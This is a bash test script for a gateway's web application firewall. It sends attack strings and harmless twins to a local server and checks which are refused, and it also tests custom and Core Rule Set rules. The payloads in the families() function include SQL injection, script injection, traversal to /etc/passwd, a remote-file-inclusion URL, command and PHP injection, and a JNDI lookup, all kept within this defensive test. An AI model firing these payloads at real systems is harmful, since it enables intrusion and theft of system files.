#!/usr/bin/env bash
# The firewall: attacks and their harmless twins over HTTP/1.1 and HTTP/2, with the rules in the binary and with the Core
# Rule Set as Debian ships it; rules that are wrong leave the old ones in place; a route on which rules only find.
set -euo pipefail
here="$(dirname "$(realpath "${BASH_SOURCE[0]}")")"
# shellcheck source-path=SCRIPTDIR source=lib.sh
source "$here/lib.sh"
need curl:curl python3:python3 dpkg-deb:dpkg apt-get:apt
cd "$TMP"

# --- an application that takes what it is sent, and a gateway -------------------------------------------------------

free_port
application=$port
serve application "$application" python3 "$here/upstream.py" "$application"
deploy gate demo "http://127.0.0.1:$application"
firewall_policy gate 'paranoia = 1, threshold = 5, body = "256 KiB", responses = true' '[clause.tls]
section  = "firewall"
text     = "TLS {min} or newer."
control  = "tls.floor"
severity = "high"'
check "the deployment is sound" "$REEVE" check --config gate/reeve.toml
up gateway gate
CA=gate/reeve-data/ca/ca.pem
site=https://localhost:$https

code() { ask --output /dev/null --write-out '%{http_code}' "$@" 2>/dev/null || true; }

# One attack and its twin, over both protocols: pair WHAT CURL... -- ATTACK -- TWIN
pair() {
  local what=$1 attack=$2 twin=$3 version
  shift 3
  for version in --http1.1 --http2; do
    check "$what, ${version#--}: refused, and its twin is served" \
      is "$(code "$version" "$@" --data-urlencode "$attack" "$site/search") $(code "$version" "$@" --data-urlencode "$twin" "$site/search")" "403 200"
  done
}

families() {
  say "$1"
  pair "SQL injection in the query" "q=1' UNION SELECT name, pass FROM users -- " "q=union station, select seats" --get
  pair "SQL injection in a form" "q=1' OR '1'='1' -- " "q=it's one of Alice's" --request POST
  pair "script injection" "q=<script>alert(1)</script>" "q=a script for a play" --get
  pair "path traversal" "q=../../../../etc/passwd" "q=docs/passwords.html" --get
  pair "remote file inclusion" "file=http://192.0.2.1/shell.txt?" "file=report.pdf" --get
  pair "command injection" "q=; cat /etc/passwd" "q=cats and dogs" --get
  pair "PHP injection" "q=<?php system('id'); ?>" "q=a course on PHP, on Mondays" --get
  # shellcheck disable=SC2016 # nothing here is for the shell
  pair "lookup injection" 'q=${jndi:ldap://192.0.2.1/a}' 'q=$20 for two' --get
  for version in --http1.1 --http2; do
    check "SQL injection in JSON, ${version#--}" is \
      "$(code "$version" --json "{\"a\":{\"b\":\"1' UNION SELECT name, pass FROM users -- \"}}" "$site/api") $(code "$version" --json '{"a":{"b":"union station"}}' "$site/api")" \
      "403 200"
    check "SQL injection in a multipart form, ${version#--}" is \
      "$(code "$version" --form-string "a=1' UNION SELECT name, pass FROM users -- " "$site/api") $(code "$version" --form-string "a=union station" "$site/api")" \
      "403 200"
  done
  check "a scanner, and a browser" is \
    "$(code --user-agent 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$site/") $(code --user-agent 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' "$site/")" "403 200"
  check "an answer with a database's error is not shown" lacks "$(ask "$site/leak")" "SQL syntax"
}

families "the rules in the binary"
head -c 300000 /dev/zero | tr '\0' x >large
check "a body past the limit" is "$(code --data-binary @large "$site/api")" 413
head -c 200000 /dev/zero | tr '\0' x >fits
check "a large one within it" is "$(code --form file=@fits "$site/api")" 200
check "a packed body" is "$(code --header 'Content-Encoding: gzip' --data-binary @fits "$site/api")" 415
check "events name rules and variables" like "$(cat gateway.out)" '"control":"waf.attack_set","cause":"rules [0-9, ]+ at .*ARGS:q'
check "and hold of values only words of attacks" lacks "$(cat gateway.out)" "pass FROM users"

# --- rules of a deployment's own ------------------------------------------------------------------------------------

mkdir gate/rules
cat >gate/rules/own.conf <<'RULES'
SecRule ARGS:canary "@streq sings" "id:1000,phase:2,deny,status:403,t:none,log,msg:'canary'"
RULES
# Too few for the self-test.
sed -i 's/^\[waf\]/&\nrules = "rules"\nself_test = false/' gate/reeve.toml
grep -q '^rules = "rules"' gate/reeve.toml || printf '[waf]\nrules = "rules"\nself_test = false\n' >>gate/reeve.toml
check "rules of one's own are taken up" "$REEVE" reload --config gate/reeve.toml
check "and hold" is "$(code "$site/?canary=sings") $(code "$site/?canary=sleeps")" "403 200"
cat >gate/rules/wrong.conf <<'RULES'
SecRule ARGS "@rx fine" "id:1001,phase:2,pass,nolog"
SecRule ARGS "@nonsense x" "id:1002,phase:2,deny"
RULES
run "$REEVE" check --config gate/reeve.toml
check "rules that are wrong are named with file and line" like "$out$err" 'wrong\.conf:2: '
check "and are an error" is "$status" 1
run "$REEVE" reload --config gate/reeve.toml
check "a reload refuses them" like "$status $out$err" '^[12] .*|wrong\.conf:2'
check "and the old ones go on" is "$(code "$site/?canary=sings")" 403
rm gate/rules/wrong.conf
cat >>gate/reeve.toml <<'SETTINGS'
[[waf.detect_only]]
path  = "/learning"
until = "2099-12-31"
SETTINGS
check "a route on which rules only find" "$REEVE" reload --config gate/reeve.toml
check "nothing is refused there, and elsewhere it is" is "$(code "$site/learning/a?canary=sings") $(code "$site/learn?canary=sings")" "200 403"
found() { grep -q '"object":"/learning/a.*"outcome":"detected","control":"waf.attack_set","cause":"rule 1000 at ARGS:canary"' gateway.out; }
check "and its event says what would have been" within 3 found
run "$REEVE" prove --config gate/reeve.toml
check "the probe tells of the route" has "$(tr -s ' \n' ' ' <<<"$out")" "/learning rules only find"
sed -i '/^\[\[waf.detect_only\]\]/,$d' gate/reeve.toml

# --- the Core Rule Set of Debian ------------------------------------------------------------------------------------

if apt-get download -qq modsecurity-crs >apt.log 2>&1 && dpkg-deb --extract modsecurity-crs_*.deb crs; then
  sed -i "s|^rules = .*|rules = [\"$TMP/crs/etc/modsecurity/crs/crs-setup.conf\", \"$TMP/crs/usr/share/modsecurity-crs\"]|; /^self_test = /d" gate/reeve.toml
  check "the Core Rule Set of Debian is sound" "$REEVE" check --config gate/reeve.toml
  stop "$gateway" 10
  up gateway gate
  families "the Core Rule Set of Debian"
  run "$REEVE" prove --config gate/reeve.toml
  check "and the probe finds the clause kept" like "$out" '^kept +attacks'
else
  could_not_judge "the package modsecurity-crs could not be fetched: $(tail -1 apt.log)"
fi
finish
